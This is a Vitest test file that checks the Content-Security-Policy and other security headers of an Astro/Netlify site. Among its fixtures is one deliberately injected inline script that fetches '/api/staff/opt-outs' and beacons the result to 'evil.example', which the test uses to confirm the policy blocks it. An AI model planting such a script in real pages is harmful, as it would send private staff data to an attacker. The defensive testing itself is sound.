import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import idle from 'astro/client/idle.prebuilt.js';
import island from 'astro/runtime/server/astro-island.prebuilt.js';
import { createElement } from 'react';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { productionBackend } from '../../src/admin/cms-config.ts';
import { createApp } from '../../src/server/http/app.ts';
import type { FunctionModule } from '../../src/server/http/function-module.ts';
import { functionsDir, loadFunctions } from '../../src/server/http/load-functions.ts';
import { renderPage } from '../../src/server/http/page.ts';
import { COMMON_SECURITY_HEADERS, netlifyHeadersFile } from '../../src/server/http/security-headers.ts';
import { headersForPath, parseHeadersFile } from '../platform/cdn.ts';
import { expectErrorLogs } from '../support/error-logs.ts';

/**
 * The local server's headers on a small stand-in for dist/ (Vitest runs before the site build; the
 * real build and every real route are checked in tests/e2e/security-headers.spec.ts), and the
 * Netlify configuration the build and netlify.toml give the same files.
 */

// Astro's own island scripts, as it writes them into pages; and one that reached a page another way
// (raw HTML in Markdown, or the CMS): the policy must not allow that one.
const injected =
  'fetch("/api/staff/opt-outs").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.example", t))';
const files: Record<string, string> = {
  'index.html': `<!doctype html><html><head><script type="application/ld+json">{"@type":"FAQPage"}</script></head><body><h1>Home</h1><script>${island}</script><script>${idle}</script><script>${injected}</script><script type="module" src="/_astro/a.js"></script></body></html>`,
  'plain/index.html': '<!doctype html><html><body><h1>No scripts</h1></body></html>',
  'admin/index.html': '<!doctype html><html><body><script type="module" src="/_astro/cms.js"></script></body></html>',
  '404.html': '<!doctype html><html><body><h1>Page not found</h1></body></html>',
  'form-shell/index.html': `<!doctype html><html><head><title>&lt;!--page:title--&gt;</title><script type="module">${idle}</script></head><body><main><!--page:main--></main><script>${island}</script></body></html>`,
  '_astro/site.css': 'body { color: black }',
  _headers: '/\n  X-Secret: not served\n',
};
const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

let dist: string;
let app: { request(path: string, init?: RequestInit): Response | Promise<Response> };

const fake = (name: string, path: string, handler: FunctionModule['handler']): FunctionModule => ({
  name,
  handler,
  config: { path, method: ['GET', 'POST'] },
});

beforeAll(async () => {
  dist = mkdtempSync(join(tmpdir(), 'clearshare-headers-'));
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dist, file)), { recursive: true });
    writeFileSync(join(dist, file), text);
  }
  const functions = (await loadFunctions()).filter((fn) => fn.name === 'csp-report');
  functions.push(
    fake('json', '/api/json', async () => Response.json({ reference: 'HK3BN7PD' })),
    fake('page', '/api/page', async (request) =>
      renderPage({
        title: new URL(request.url).searchParams.get('title') ?? 'Check your answers',
        body: createElement('p', null, 'Ada $` Lovelace'),
        staticDir: dist,
      }),
    ),
    fake(
      'cached',
      '/api/cached',
      async () => new Response('figures', { headers: { 'Cache-Control': 'public, max-age=60' } }),
    ),
    fake('broken', '/api/broken', async () => {
      throw new Error('the database fell over');
    }),
  );
  // The client address comes from a header here: there is no socket behind app.request().
  const local = createApp({ functions, staticDir: dist, clientIpHeader: 'x-client-ip' });
  app = {
    request: (path: string, init: RequestInit = {}) =>
      local.request(path, {
        ...init,
        headers: { 'x-client-ip': '192.0.2.1', ...(init.headers as Record<string, string>) },
      }),
  };
});
afterAll(() => rmSync(dist, { recursive: true, force: true }));

const policyOf = (response: Response) => response.headers.get('Content-Security-Policy') ?? '';
const scriptSources = (response: Response) =>
  (/script-src ([^;]*)/.exec(policyOf(response))?.[1] ?? '').split(' ').filter(Boolean).sort();

function expectCommon(response: Response): void {
  for (const [name, value] of Object.entries(COMMON_SECURITY_HEADERS))
    expect(response.headers.get(name), name).toBe(value);
  expect(policyOf(response)).toContain("frame-ancestors 'none'");
  expect(policyOf(response)).toContain("base-uri 'none'");
}

describe('security headers from the local server', () => {
  it('a built page allows exactly its own inline scripts, by hash (JSON-LD and external scripts need none)', async () => {
    const response = await app.request('/');
    expectCommon(response);
    expect(scriptSources(response)).toEqual(["'self'", sha(island), sha(idle)].sort());
    expect(policyOf(response)).not.toContain(sha(injected));
    expect(policyOf(response)).toContain("object-src 'none'");
    expect(policyOf(response)).toContain('report-uri /api/csp-report');
    expect(response.headers.get('Cross-Origin-Opener-Policy')).toBe('same-origin');
    expect((await app.request('/plain/')).headers.get('Content-Security-Policy')).toContain("script-src 'self';");
  });

  it('the content manager gets its own policy: eval for Decap, the local backend, no inline script', async () => {
    const response = await app.request('/admin/');
    expect(scriptSources(response)).toEqual(["'self'", "'unsafe-eval'"]);
    expect(policyOf(response)).toContain('http://localhost:8081');
    expect(response.headers.get('Cross-Origin-Opener-Policy')).toBe('same-origin-allow-popups');
  });

  it('a function page gets a fresh nonce on every script of its shell, and is never cached', async () => {
    const first = await app.request('/api/page');
    const second = await app.request('/api/page');
    const nonces = [first, second].map((r) => /'nonce-([^']+)'/.exec(policyOf(r))?.[1]);
    expect(nonces[0]).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    expect(nonces[0]).not.toBe(nonces[1]);
    const html = await first.text();
    const tags = html.match(/<script\b[^>]*>/g) ?? [];
    expect(tags).toHaveLength(2);
    for (const tag of tags) expect(tag).toContain(`nonce="${nonces[0]}"`);
    expect(first.headers.get('Cache-Control')).toBe('no-store');
    // What the person typed is put in as text, never read as a replacement pattern.
    expect(html).toContain('Ada $` Lovelace');
    expect(html.match(/<html>/g)).toHaveLength(1);
    const titled = await (await app.request('/api/page?title=%24%60')).text();
    expect(titled).toContain('<title>$`</title>');
  });

  it('JSON, error and unknown answers get the headers, a policy that loads nothing, and no-store', async () => {
    // /api/broken throws on purpose, and the app logs the unhandled error it answers 500 for.
    expectErrorLogs(/^Unhandled error in a request/);
    for (const [path, status] of [
      ['/api/json', 200],
      ['/api/broken', 500],
      ['/no-such-page/', 404],
    ] as const) {
      const response = await app.request(path);
      expect(response.status, path).toBe(status);
      expectCommon(response);
      expect(response.headers.get('Cache-Control'), path).toBe('no-store');
    }
    expect(policyOf(await app.request('/api/json'))).toMatch(/^default-src 'none'/);
    const big = await app.request('/api/json', {
      method: 'POST',
      headers: { 'content-length': String(12 * 1024 * 1024) },
    });
    expect(big.status).toBe(413);
    expectCommon(big);
    const report = await app.request('/api/csp-report', { method: 'POST', body: '{}' });
    expect(report.status).toBe(204);
    expectCommon(report);
  });

  it('a function that says how it may be cached keeps that; static assets are cached, the Netlify rules hidden', async () => {
    expect((await app.request('/api/cached')).headers.get('Cache-Control')).toBe('public, max-age=60');
    const css = await app.request('/_astro/site.css');
    expectCommon(css);
    expect(css.headers.get('Cache-Control')).toContain('immutable');
    expect((await app.request('/_headers')).status).toBe(404);
  });
});

describe('the Netlify configuration gives the same headers', () => {
  it('dist/_headers has each page’s policy once (Netlify matches it with or without the slash), and no local backend for the admin', () => {
    const pages = ['index.html', 'plain/index.html', 'admin/index.html'].map((file) => ({
      urlPath: `/${file.replace(/index\.html$/, '')}`,
      html: files[file] ?? '',
    }));
    const rules = netlifyHeadersFile(pages);
    expect(rules).toContain(
      `/\n  Content-Security-Policy: default-src 'self'; script-src 'self' ${[sha(idle), sha(island)].sort().join(' ')};`,
    );
    expect(rules).toMatch(
      /\n\/plain\/\n {2}Content-Security-Policy: [^\n]+\n {2}Cross-Origin-Opener-Policy: same-origin\n$/,
    );
    expect(rules).not.toMatch(/\n\/plain\n/);
    // As Netlify's CDN applies them (tests/platform/cdn.ts), each path, slash or not, gets one policy.
    for (const path of ['/plain/', '/plain']) {
      const headers = headersForPath(parseHeadersFile(rules), path);
      expect(headers['Cross-Origin-Opener-Policy'] ?? headers['cross-origin-opener-policy'], path).toBe('same-origin');
    }
    const admin = /\n\/admin\/\n {2}Content-Security-Policy: ([^\n]+)/.exec(rules)?.[1] ?? '';
    expect(admin).toContain("'unsafe-eval'");
    expect(admin).not.toContain('localhost');
  });

  it('netlify.toml sets every common header on every path', () => {
    const toml = readFileSync(join(import.meta.dirname, '..', '..', 'netlify.toml'), 'utf8');
    const block = toml.slice(toml.indexOf('for = "/*"'));
    for (const [name, value] of Object.entries(COMMON_SECURITY_HEADERS)) {
      const quoted = value.includes('"') ? `'${value}'` : `"${value}"`;
      expect(block, name).toContain(`${name} = ${quoted}`);
    }
  });

  it('every function with a route sets its own headers (Netlify adds none to function answers)', () => {
    for (const file of readdirSync(functionsDir).filter((f) => f.endsWith('.ts'))) {
      const source = readFileSync(join(functionsDir, file), 'utf8');
      if (!/path:/.test(source)) continue;
      // Outermost, so every answer carries them, the cross-site refusal (same-origin.tsx) too.
      expect(source, file).toMatch(/export default secureFunction\((\w+|sameOriginOnly\(\w+\))\);/);
    }
  });

  it('the admin policy reaches the CMS backend the configuration names', () => {
    expect(productionBackend.name, 'a new backend needs its origins in adminPolicy()').toBe('github');
  });
});
